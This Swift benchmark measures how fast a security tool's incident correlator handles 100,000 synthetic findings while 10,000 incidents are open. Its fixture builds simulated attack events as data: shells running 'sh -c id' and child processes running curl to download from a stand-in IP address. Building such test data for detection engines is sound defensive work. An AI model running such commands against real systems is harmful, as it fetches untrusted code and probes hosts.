import Benchmark
import VigilCore
import VigilCorrelation
import VigilTestKit

/// Findings correlated per second by one ``StoryCorrelator`` holding 10,000 open incidents.
///
/// Before measuring, the correlator takes 10,000 unrelated findings (a shell in each of 10,000 workloads),
/// so 10,000 stories are open within its window, at its default bound of open incidents. Each measured
/// iteration then correlates 100,000 findings in batches: half join a recently opened story (a child of its
/// process runs curl, or a repeat of that within the cooldown), half open a story of their own in a new
/// workload, so the bound closes the least recently active stories as new ones open. Every story that
/// grows is reported again (with its narrative) after each batch, as the engine's alert stage does.
let benchmarks: @Sendable () -> Void = {
    Benchmark.defaultConfiguration = .init(
        metrics: [CorrelationMetrics.findingsPerSecond, .wallClock, .mallocCountTotal, .peakMemoryResident],
        maxDuration: .seconds(30), maxIterations: 5)

    for batchSize in [256, 16] {
        Benchmark("Correlation: 10,000 open incidents, 100k findings in batches of \(batchSize)") { benchmark in
            let fixture = CorrelationFixture(open: 10_000, findings: 100_000, batchSize: batchSize)
            var correlator = fixture.prefilled()
            var incidents: [Incident] = []
            incidents.reserveCapacity(batchSize)
            var reported = 0
            let start = ContinuousClock.now
            benchmark.startMeasurement()
            for batch in fixture.batches {
                correlator.correlate(batch, into: &incidents)
                reported += incidents.count
                incidents.removeAll(keepingCapacity: true)
            }
            benchmark.stopMeasurement()
            let elapsed = (ContinuousClock.now - start) / .seconds(1)
            benchmark.measurement(CorrelationMetrics.findingsPerSecond, Int(Double(fixture.count) / elapsed))
            precondition(correlator.openIncidents <= 10_000, "more incidents open than the bound")
            blackHole(reported)
        }
    }
}

/// Figures the benchmark reports besides the standard ones.
enum CorrelationMetrics {
    /// Findings correlated per second.
    static let findingsPerSecond = BenchmarkMetric.custom(
        "findings per second", polarity: .prefersLarger, useScalingFactor: false)
}

/// The prefill and the measured findings, made before measuring.
struct CorrelationFixture {
    let symbols = SymbolTable()
    let prefill: [Finding]
    let batches: [[Finding]]
    let count: Int

    init(open: Int, findings total: Int, batchSize: Int) {
        // 1 ms apart: 110,000 findings span under two minutes, well within the 30-minute window.
        var build = EventBuilder(symbols: symbols, step: 1_000_000)
        var next: Int32 = 10_000
        var anchors: [Int32] = []
        var workloads: [Int32: WorkloadID] = [:]

        func shell(into list: inout [Finding]) {
            next += 1
            let workload = build.workload(namespace: "tenant-\(next % 97)", deployment: "app-\(next)")
            workloads[next] = workload
            anchors.append(next)
            let event = build.exec(
                pid: next, parent: 1, executable: "/bin/sh", arguments: ["sh", "-c", "id"], workload: workload)
            list.append(Self.finding(event, rule: "vigil.workload.shell", technique: "T1059.004", pid: next))
        }

        var prefill: [Finding] = []
        for _ in 0..<open { shell(into: &prefill) }
        self.prefill = prefill

        var measured: [Finding] = []
        measured.reserveCapacity(total)
        var joined = 0
        while measured.count < total {
            if measured.count % 2 == 0 {
                // A child of a recently opened story's shell: joins it through the process tree.
                let recent = anchors.suffix(open)
                let parent = recent[recent.startIndex + (joined &* 7_919) % recent.count]
                joined += 1
                next += 1
                let event = build.exec(
                    pid: next, parent: parent, executable: "/usr/bin/curl",
                    arguments: ["curl", "-s", "http://198.51.100.7/x"], workload: workloads[parent]!)
                var finding = Self.finding(event, rule: "vigil.workload.download", technique: "T1105", pid: next)
                finding.ancestry = [
                    ProcessSummary(key: EventBuilder.process(parent), executable: "/bin/sh", arguments: ["sh"])
                ]
                measured.append(finding)
            } else {
                shell(into: &measured)
            }
        }
        count = measured.count
        batches = stride(from: 0, to: measured.count, by: batchSize).map {
            Array(measured[$0..<min($0 + batchSize, measured.count)])
        }
    }

    /// A correlator holding the prefill's stories.
    func prefilled() -> StoryCorrelator {
        var correlator = StoryCorrelator(symbols: symbols)
        var incidents: [Incident] = []
        for start in stride(from: 0, to: prefill.count, by: 256) {
            correlator.correlate(Array(prefill[start..<min(start + 256, prefill.count)]), into: &incidents)
            incidents.removeAll(keepingCapacity: true)
        }
        precondition(correlator.openIncidents == prefill.count, "the prefill's stories did not all stay open")
        return correlator
    }

    static func finding(_ event: Event, rule: String, technique: String, pid: Int32) -> Finding {
        var finding = Finding(
            severity: .medium, rule: RuleReference(id: rule, name: rule),
            mitre: MITREMapping(tactic: .execution, technique: technique), event: event,
            explanation: "benchmark finding")
        finding.process = ProcessSummary(
            key: EventBuilder.process(pid), executable: "/bin/sh", arguments: ["sh", "-c", "id"])
        return finding
    }
}
